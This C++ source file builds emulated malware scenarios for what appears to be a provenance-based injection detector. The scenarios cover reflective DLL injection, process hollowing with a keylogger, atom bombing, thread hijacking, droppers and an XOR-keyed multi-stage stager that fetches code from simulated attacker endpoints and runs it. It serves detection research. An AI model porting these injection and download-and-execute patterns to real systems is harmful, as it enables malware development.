#include "attacks/scenarios.h"

#include "os/runtime.h"
#include "vm/btcache.h"

namespace faros::attacks {

namespace {

using vm::Reg;

Result<void> install_image(os::Machine& m, const std::string& path,
                           const Result<os::Image>& img) {
  if (!img.ok()) return Err<void>(img.error().message);
  m.kernel().vfs().create(path, img.value().serialize());
  return Ok();
}

// Installs `img` at `path` and spawns a process from it.
Result<void> install_and_spawn(os::Machine& m, const std::string& path,
                               const Result<os::Image>& img) {
  if (auto r = install_image(m, path, img); !r.ok()) return r;
  auto pid = m.kernel().spawn(path);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

// The attacker endpoint serving one response: `payload`, or nothing when
// it failed to build.
std::unique_ptr<os::EventSource> single_payload_c2(
    const Result<Bytes>& payload) {
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

constexpr const char* kSampleDir = "C:/Users/victim/";

}  // namespace

Result<RecordedRun> record_run(Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  auto r = m.boot();
  if (!r.ok()) return Err<RecordedRun>(r.error().message);
  auto source = sc.make_source();
  if (source) m.set_event_source(source.get());
  r = sc.setup(m);
  if (!r.ok()) return Err<RecordedRun>(r.error().message);

  RecordedRun out;
  out.stats = m.run(sc.budget());
  out.log = m.recording();
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Result<ReplayedRun> replay_run(Scenario& sc, const vm::ReplayLog& log,
                               vm::ExecHooks* cpu_plugin,
                               const std::vector<osi::GuestMonitor*>& monitors,
                               const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (cpu_plugin) m.attach_cpu_plugin(cpu_plugin);
  for (auto* mon : monitors) m.add_monitor(mon);
  auto r = m.boot();
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  r = sc.setup(m);
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  m.load_replay(log);

  ReplayedRun out;
  out.stats = m.run(sc.budget());
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Analysis::Analysis(const core::Options& opts, const os::MachineConfig& cfg)
    : machine_(cfg), engine_(machine_.kernel(), opts) {
  machine_.attach_cpu_plugin(&engine_);
  machine_.add_monitor(&engine_);
}

Result<void> Analysis::start(Scenario& sc, const vm::ReplayLog* replay) {
  if (auto b = machine_.boot(); !b.ok()) {
    return Err<void>("boot: " + b.error().message);
  }
  if (!replay) {
    source_ = sc.make_source();
    if (source_) machine_.set_event_source(source_.get());
  }
  if (auto s = sc.setup(machine_); !s.ok()) {
    return Err<void>("setup: " + s.error().message);
  }
  if (replay) machine_.load_replay(*replay);
  return Ok();
}

os::RunStats Analysis::run(u64 budget, os::RunGovernor* gov) {
  // The phase timer shares the engine's sink (null with metrics off).
  obs::ScopedTimer t(engine_.metrics(), obs::Tmr::kRecord);
  os::RunStats stats = machine_.run(budget, gov);
  sched_rounds_ += stats.scheduling_rounds;
  return stats;
}

obs::MetricSnapshot Analysis::metrics() const {
  obs::MetricSnapshot s = engine_.metrics_snapshot();
  if (!s.collected) return s;
  auto add = [&s](obs::Ctr c, u64 v) {
    s.counters[static_cast<u32>(c)] += v;
  };
  // src/vm and src/os keep no obs dependency, so the block cache, the
  // interpreter and PhysMem keep plain u64 stats, surfaced here.
  const os::Kernel& k = machine_.kernel();
  if (const vm::BlockCache* btc = k.interp().block_cache()) {
    const vm::BlockCacheStats& bs = btc->stats();
    add(obs::Ctr::kBtTranslate, bs.translated);
    add(obs::Ctr::kBtHit, bs.hits);
    add(obs::Ctr::kBtChained, bs.chained);
    add(obs::Ctr::kBtEvictSmc, bs.evict_smc);
    add(obs::Ctr::kBtEvictCr3, bs.evict_cr3);
    add(obs::Ctr::kBtNotOffered, bs.not_offered);
  }
  add(obs::Ctr::kSchedRounds, sched_rounds_);
  add(obs::Ctr::kTlbMiss, k.interp().tlb_misses());
  const vm::PhysMem::CowStats& cs = k.phys_mem().cow_stats();
  if (cs.cow) {
    add(obs::Ctr::kSnapClone, 1);
    add(obs::Ctr::kCowFault, cs.cow_faults);
    add(obs::Ctr::kSnapSharedPages, cs.shared_frames);
  }
  return s;
}

Result<AnalyzedRun> analyze(Scenario& sc, const core::Options& opts,
                            const os::MachineConfig& cfg) {
  Analysis a(opts, cfg);
  if (auto r = a.start(sc); !r.ok()) {
    return Err<AnalyzedRun>(r.error().message);
  }

  AnalyzedRun out;
  out.recorded.stats = a.run(sc.budget());
  const os::Kernel& k = a.machine().kernel();
  const core::FarosEngine& engine = a.engine();
  out.recorded.log = a.machine().recording();
  out.recorded.console = k.console();
  out.recorded.traps = k.trap_log();
  out.findings = engine.findings();
  for (const core::Finding& f : out.findings) {
    out.fetch_chains.push_back(
        core::render_chain(engine.store(), engine.maps(), f.fetch_prov));
    out.target_chains.push_back(
        core::render_chain(engine.store(), engine.maps(), f.target_prov));
  }
  out.flagged = engine.flagged();
  out.report = engine.report();
  out.engine_stats = engine.stats();
  out.prov_lists = engine.store().size();
  out.tainted_bytes = engine.shadow().tainted_bytes();
  return out;
}

Result<std::vector<ExtractedImage>> extract_images(
    Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (auto b = m.boot(); !b.ok()) {
    return Err<std::vector<ExtractedImage>>("boot: " + b.error().message);
  }
  if (auto s = sc.setup(m); !s.ok()) {
    return Err<std::vector<ExtractedImage>>("setup: " + s.error().message);
  }
  std::vector<ExtractedImage> out;
  // Vfs::list() is path-sorted, which makes the extracted set (and every
  // downstream static report) deterministic.
  for (const std::string& path : m.kernel().vfs().list()) {
    auto data = m.kernel().vfs().read_all(path);
    if (!data.ok()) continue;
    auto img = os::Image::deserialize(data.value());
    if (!img.ok()) continue;  // documents, payload blobs, ... — not images
    out.push_back(ExtractedImage{path, std::move(img).take()});
  }
  return out;
}

// ---------------------------------------------------------------------------
// Reflective DLL injection.

ReflectiveDllScenario::ReflectiveDllScenario(ReflectiveVariant variant,
                                             bool transient)
    : variant_(variant), transient_(transient) {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter:
      victim_ = "notepad.exe";
      victim_path_ = paths::kNotepad;
      break;
    case ReflectiveVariant::kBypassUac:
      victim_ = "firefox.exe";
      victim_path_ = paths::kFirefox;
      break;
    case ReflectiveVariant::kReverseTcpDns:
      victim_ = "inject_client.exe";  // shellcode and target coincide
      break;
  }
}

std::string ReflectiveDllScenario::name() const {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter: return "reflective_dll_inject";
    case ReflectiveVariant::kReverseTcpDns: return "reverse_tcp_dns";
    case ReflectiveVariant::kBypassUac: return "bypassuac_injection";
  }
  return "reflective";
}

Result<void> ReflectiveDllScenario::setup(os::Machine& m) {
  if (!victim_path_.empty()) {
    auto r = install_and_spawn(m, victim_path_, build_idle_program(victim_));
    if (!r.ok()) return r;
  }
  InjectClientSpec spec;
  spec.target_name =
      variant_ == ReflectiveVariant::kReverseTcpDns ? "" : victim_;
  if (variant_ == ReflectiveVariant::kReverseTcpDns) {
    // The reverse_tcp_dns stager looks its C2 up by name.
    spec.dns_name = "c2.reverse-tcp.dns";
    m.kernel().add_dns(spec.dns_name, kAttackerIp);
  }
  return install_and_spawn(m, std::string(kSampleDir) + "inject_client.exe",
                           build_inject_client(spec));
}

std::unique_ptr<os::EventSource> ReflectiveDllScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "reflective payload in " + victim_name();
  spec.erase_self = transient_;
  spec.ending = variant_ == ReflectiveVariant::kReverseTcpDns
                    ? PayloadEnding::kExit
                    : PayloadEnding::kLoopForever;
  return single_payload_c2(build_payload(spec));
}

// ---------------------------------------------------------------------------
// Process hollowing.

Result<void> HollowingScenario::setup(os::Machine& m) {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kKeylogger;
  pspec.message = "svchost hollowed";
  pspec.erase_self = transient_;
  pspec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(pspec);
  if (!payload.ok()) return Err<void>(payload.error().message);

  auto r = install_image(m, paths::kSvchost, build_idle_program("svchost.exe"));
  if (!r.ok()) return r;
  // The user "opens the attachment".
  r = install_and_spawn(m, std::string(kSampleDir) + "invoice.exe",
                        build_hollow_loader(payload.value(), paths::kSvchost));
  if (!r.ok()) return r;

  // Keystrokes for the keylogger to steal.
  for (int i = 0; i < 3; ++i) {
    std::string keys = "hunter" + std::to_string(i) + "\n";
    m.inject_device(static_cast<u32>(os::DeviceId::kKeyboard),
                    ByteSpan(reinterpret_cast<const u8*>(keys.data()),
                             keys.size()));
  }
  return Ok();
}

// ---------------------------------------------------------------------------
// RAT code/process injection.

Result<void> RatInjectionScenario::setup(os::Machine& m) {
  auto r = install_and_spawn(m, paths::kExplorer,
                             build_idle_program("explorer.exe"));
  if (!r.ok()) return r;
  r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  RatSpec spec;
  spec.name = rat_name_ + ".exe";
  r = install_and_spawn(m, std::string(kSampleDir) + spec.name,
                        build_rat_program(spec));
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
                          Bytes{'t', 'o', 'p', '-', 's', 'e', 'c', 'r', 'e',
                                't', '-', 'd', 'a', 't', 'a'});
  return Ok();
}

std::unique_ptr<os::EventSource> RatInjectionScenario::make_source() {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kMessageBox;
  pspec.message = rat_name_ + " payload in explorer.exe";
  pspec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(pspec);

  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) {
    Bytes inject_cmd;
    inject_cmd.push_back('I');
    inject_cmd.insert(inject_cmd.end(), payload.value().begin(),
                      payload.value().end());
    c2->queue_response(std::move(inject_cmd));
  }
  c2->queue_response(Bytes{'S'});
  c2->queue_response(Bytes{'U'});
  c2->queue_response(Bytes{'Q'});
  return c2;
}

// ---------------------------------------------------------------------------
// Multi-stage dropper chain.

Result<void> DropperChainScenario::setup(os::Machine& m) {
  // Stage 1: download stage 2, drop it to disk, run it.
  os::ImageBuilder ib("dropper.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_download(a, kGetRequest, 8192);  // r8 = stage-2 size
  a.movi_label(Reg::R1, "drop_path");
  emit_sys(a, os::Sys::kNtCreateFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R9);
  a.mov(Reg::R3, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteFile);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtCloseHandle);
  a.movi_label(Reg::R1, "drop_path");
  a.movi(Reg::R2, 0);
  emit_sys(a, os::Sys::kNtCreateProcess);
  emit_exit(a, 0);
  emit_request_data(a);
  emit_data_str(a, "drop_path", "C:/Temp/update.exe");
  return install_and_spawn(m, std::string(kSampleDir) + "dropper.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> DropperChainScenario::make_source() {
  // Stage 2: a full SX32 executable that resolves MessageBoxA by walking
  // the export tables inline, announces itself, then idles.
  os::ImageBuilder ib("update.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_export_walk(a, "s2", fnv1a32(os::sym::kUser32),
                   fnv1a32(os::sym::kMessageBox));
  a.mov(Reg::R9, Reg::R0);
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 16);
  a.callr(Reg::R9);
  a.label("spin");
  emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  emit_data_str(a, "msg", "stage two alive!", /*nul_terminate=*/false);
  auto img = ib.build();
  if (!img.ok()) return single_payload_c2(img.error());
  return single_payload_c2(img.value().serialize());
}

// ---------------------------------------------------------------------------
// IPC relay through a loopback socket.

Result<void> IpcRelayScenario::setup(os::Machine& m) {
  constexpr u16 kServicePort = 9000;
  m.kernel().add_dns("localhost", m.kernel().net().guest_ip());

  // Backend: binds the service port, receives a code blob, runs it.
  {
    os::ImageBuilder ib("backend.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_bind(a, kServicePort);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    emit_copy_loop(a);
    a.callr(Reg::R6);
    emit_exit(a, 0);
    auto r = install_and_spawn(m, std::string(kSampleDir) + "backend.exe",
                               ib.build());
    if (!r.ok()) return r;
  }
  // Frontend: downloads the payload, relays it to the backend over
  // loopback.
  os::ImageBuilder ib("frontend.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_download(a);
  // Loopback connection to the backend service.
  emit_sys(a, os::Sys::kNtSocket);
  a.mov(Reg::R11, Reg::R0);
  a.mov(Reg::R1, Reg::R11);
  a.movi(Reg::R2, 0);  // placeholder; patched via guest ip below
  // The guest's own IP is not an immediate the program knows; use the
  // kernel-reported value through NtResolveHost("localhost").
  a.movi_label(Reg::R1, "lo");
  emit_sys(a, os::Sys::kNtResolveHost);
  a.mov(Reg::R12, Reg::R0);
  a.mov(Reg::R1, Reg::R11);
  a.mov(Reg::R2, Reg::R12);
  a.movi(Reg::R3, kServicePort);
  emit_sys(a, os::Sys::kNtConnect);
  a.mov(Reg::R1, Reg::R11);
  a.mov(Reg::R2, Reg::R9);
  a.mov(Reg::R3, Reg::R8);
  emit_sys(a, os::Sys::kNtSend);
  emit_exit(a, 0);
  emit_request_data(a);
  emit_data_str(a, "lo", "localhost");
  return install_and_spawn(m, std::string(kSampleDir) + "frontend.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> IpcRelayScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in backend.exe";
  spec.ending = PayloadEnding::kExit;
  return single_payload_c2(build_payload(spec));
}

// ---------------------------------------------------------------------------
// Atom bombing.

Result<void> AtomBombingScenario::setup(os::Machine& m) {
  constexpr u16 kPumpPort = 7777;
  const u32 guest_ip = m.kernel().net().guest_ip();

  // Victim: a "message pump" that waits for a message carrying an atom id,
  // fetches the atom into an executable buffer, and (as the queued "APC")
  // executes it.
  {
    os::ImageBuilder ib("winlogon.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_bind(a, kPumpPort);
    a.movi_label(Reg::R9, "msgbuf");
    emit_recv(a, Reg::R9, 4);  // the "window message": an atom id
    a.ld32(Reg::R8, Reg::R9, 0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.mov(Reg::R1, Reg::R8);
    a.mov(Reg::R2, Reg::R6);
    a.movi(Reg::R3, 4096);
    emit_sys(a, os::Sys::kNtGetAtom);
    a.callr(Reg::R6);
    emit_exit(a, 0);
    a.align(8);
    a.label("msgbuf");
    a.zeros(8);
    auto r = install_and_spawn(m, paths::kExplorer, ib.build());
    if (!r.ok()) return r;
  }
  // Attacker: downloads the payload, stages it as a global atom, posts the
  // atom id to the victim's pump.
  os::ImageBuilder ib("atom_bomber.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_download(a);
  // Stage the payload in the atom table.
  a.mov(Reg::R1, Reg::R9);
  a.mov(Reg::R2, Reg::R8);
  emit_sys(a, os::Sys::kNtAddAtom);
  a.movi_label(Reg::R5, "idbuf");
  a.st32(Reg::R5, 0, Reg::R0);
  // Post the atom id to the victim's message pump (loopback).
  emit_sys(a, os::Sys::kNtSocket);
  a.mov(Reg::R11, Reg::R0);
  a.mov(Reg::R1, Reg::R11);
  a.movi(Reg::R2, guest_ip);
  a.movi(Reg::R3, kPumpPort);
  emit_sys(a, os::Sys::kNtConnect);
  a.mov(Reg::R1, Reg::R11);
  a.movi_label(Reg::R2, "idbuf");
  a.movi(Reg::R3, 4);
  emit_sys(a, os::Sys::kNtSend);
  emit_exit(a, 0);
  emit_request_data(a);
  a.align(8);
  a.label("idbuf");
  a.zeros(8);
  return install_and_spawn(m, std::string(kSampleDir) + "atom_bomber.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "atom-bombed payload in winlogon.exe";
  spec.ending = PayloadEnding::kExit;
  return single_payload_c2(build_payload(spec));
}

// ---------------------------------------------------------------------------
// Multi-stage C2: payload and key from two distinct endpoints.

namespace {

constexpr u16 kKeyServerPort = 5555;
constexpr u8 kStageKey[8] = {0x5a, 0xa5, 0x3c, 0xc3, 0x96, 0x69, 0x0f, 0xf0};

}  // namespace

Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
  os::ImageBuilder ib("stager.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  // Stage 1: encoded payload from the primary endpoint.
  emit_download(a);
  // Stage 2: the 8-byte XOR key from the second endpoint.
  emit_connect(a, kAttackerIp, kKeyServerPort);
  emit_send_label(a, "key", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R12, Reg::R0);
  emit_recv(a, Reg::R12, 8);
  // Decode into fresh RWX memory: every written byte is enc ^ key, so its
  // provenance is the union of both netflows.
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
  a.mov(Reg::R6, Reg::R0);
  a.movi(Reg::R4, 0);
  a.label("dec");
  a.cmp(Reg::R4, Reg::R8);
  a.bgeu("decd");
  a.add(Reg::R5, Reg::R9, Reg::R4);
  a.ld8(Reg::R7, Reg::R5, 0);
  a.andi(Reg::R2, Reg::R4, 7);
  a.add(Reg::R5, Reg::R12, Reg::R2);
  a.ld8(Reg::R3, Reg::R5, 0);
  a.xor_(Reg::R7, Reg::R7, Reg::R3);
  a.add(Reg::R5, Reg::R6, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R7);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("dec");
  a.label("decd");
  a.callr(Reg::R6);  // R9 still holds the stage-1 buffer for the payload
  emit_exit(a, 0);
  emit_request_data(a);
  emit_data_str(a, "key", "KEY", /*nul_terminate=*/false);
  return install_and_spawn(m, std::string(kSampleDir) + "stager.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
  // Tiny position-independent payload: one load from the (still tainted)
  // stage-1 buffer, then return to the stager. That load is the trigger a
  // "fetch distinct-netflows>=2" rule fires on — the *code* doing it was
  // decoded from two flows.
  vm::Assembler pa;
  pa.push(Reg::LR);
  pa.ld8(Reg::R5, Reg::R9, 0);
  pa.pop(Reg::LR);
  pa.ret();
  auto code = pa.assemble(0);

  auto multi = std::make_unique<MultiC2>();
  auto payload_c2 = std::make_unique<C2Server>(kAttackerIp, kAttackerPort);
  if (code.ok()) {
    Bytes enc = code.value();
    for (size_t i = 0; i < enc.size(); ++i) enc[i] ^= kStageKey[i & 7];
    payload_c2->queue_response(std::move(enc));
  }
  auto key_c2 = std::make_unique<C2Server>(kAttackerIp, kKeyServerPort);
  key_c2->queue_response(Bytes(kStageKey, kStageKey + 8));
  multi->add(std::move(payload_c2));
  multi->add(std::move(key_c2));
  return multi;
}

// ---------------------------------------------------------------------------
// Thread hijacking: suspend a *running* victim, redirect its context.

Result<void> ThreadHijackScenario::setup(os::Machine& m) {
  // Victim first: it must already be running when the hijacker suspends it.
  auto r = install_and_spawn(m, "C:/Windows/taskhost.exe",
                             build_idle_program("taskhost.exe"));
  if (!r.ok()) return r;

  // The hijacker: download, then the SetThreadContext sequence — suspend,
  // carve RWX, write across the boundary, redirect, resume. Unlike
  // hollowing there is no child spawn and nothing is unmapped; the victim
  // was already running its own code.
  os::ImageBuilder ib("hijacker.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_download(a);
  emit_remote_inject(a, /*suspend=*/true, /*pc_relative=*/false);
  emit_exit(a, 0);
  emit_request_data(a);
  emit_data_str(a, "target", "taskhost.exe");
  return install_and_spawn(m, std::string(kSampleDir) + "hijacker.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "hijacked payload in taskhost.exe";
  spec.ending = PayloadEnding::kLoopForever;  // stays resident at snapshot
  return single_payload_c2(build_payload(spec));
}

// ---------------------------------------------------------------------------
// A -> B -> C injection relay.

Result<void> InjectionRelayScenario::setup(os::Machine& m) {
  // Both victims must already be running; relay is hijacked by stage0, and
  // conhost by the stub running inside relay.
  auto r = install_and_spawn(m, "C:/Windows/relay.exe",
                             build_idle_program("relay.exe"));
  if (!r.ok()) return r;
  r = install_and_spawn(m, "C:/Windows/conhost.exe",
                        build_idle_program("conhost.exe"));
  if (!r.ok()) return r;

  // Stage 0: downloads the combined [stub][payload] blob and thread-hijacks
  // the *whole blob* into relay.exe. The stub half then runs inside relay
  // and performs the second hop on its own.
  os::ImageBuilder ib("stage0.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_download(a);
  emit_remote_inject(a, /*suspend=*/true, /*pc_relative=*/false);
  emit_exit(a, 0);
  emit_request_data(a);
  emit_data_str(a, "target", "relay.exe");
  return install_and_spawn(m, std::string(kSampleDir) + "stage0.exe",
                           ib.build());
}

std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
  // The final payload (runs in conhost.exe, hop C): an export-walking
  // MessageBox — the one confluence trigger of the whole chain.
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in conhost.exe";
  spec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(spec);
  if (!payload.ok()) return single_payload_c2(payload);

  // The relay stub (runs in relay.exe, hop B): position-independent code
  // that re-injects the payload embedded in its own blob into conhost.exe
  // with the same suspend/write/redirect sequence, then exits. It makes
  // only syscalls plus one tainted LD32 (the embedded length word) and
  // never touches an export table, so hop B itself must NOT flag — the
  // relay shows up in the slice purely through provenance.
  vm::Assembler sa;
  sa.addpc_label(Reg::R9, "payload");
  sa.addpc_label(Reg::R5, "plen");
  sa.ld32(Reg::R8, Reg::R5, 0);
  emit_remote_inject(sa, /*suspend=*/true, /*pc_relative=*/true);
  emit_exit(sa, 0);
  sa.align(8);
  sa.label("plen");
  sa.data_u32(static_cast<u32>(payload.value().size()));
  emit_data_str(sa, "target", "conhost.exe");
  sa.align(8);
  sa.label("payload");
  sa.data(ByteSpan(payload.value().data(), payload.value().size()));
  return single_payload_c2(sa.assemble(0));
}

// ---------------------------------------------------------------------------
// Table IV behaviour samples.

Result<void> BehaviorScenario::setup(os::Machine& m) {
  auto r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
                          Bytes(48, static_cast<u8>('s')));
  m.kernel().vfs().create(paths::kReportDoc,
                          Bytes(64, static_cast<u8>('r')));

  for (Behavior b : behaviors_) {
    u32 dev = 0;
    u32 chunks = behavior_device_chunks(b, &dev);
    for (u32 i = 0; i < chunks; ++i) {
      Bytes data(b == Behavior::kKeylogger ? 8 : 32,
                 static_cast<u8>('a' + (i % 26)));
      m.inject_device(dev, data);
    }
  }
  return install_and_spawn(m, std::string(kSampleDir) + sample_name_,
                           build_behavior_program(sample_name_, behaviors_));
}

std::unique_ptr<os::EventSource> BehaviorScenario::make_source() {
  auto c2 = std::make_unique<C2Server>();
  for (Behavior b : behaviors_) {
    for (u32 i = 0; i < behavior_c2_responses(b); ++i) {
      if (b == Behavior::kDownload) {
        c2->queue_response(Bytes(128, 0x5a));  // opaque blob, never executed
      } else {
        c2->queue_response(Bytes{'r', 'u', 'n'});
      }
    }
  }
  return c2;
}

// ---------------------------------------------------------------------------
// Table III JIT workloads.

Result<void> JitScenario::setup(os::Machine& m) {
  return install_and_spawn(m, std::string(kSampleDir) + host_,
                           build_jit_host(host_));
}

std::unique_ptr<os::EventSource> JitScenario::make_source() {
  PayloadSpec spec;
  spec.action = linking_ ? PayloadAction::kLinkedCompute
                         : PayloadAction::kCompute;
  spec.ending = PayloadEnding::kRet;
  return single_payload_c2(build_payload(spec));
}

}  // namespace faros::attacks
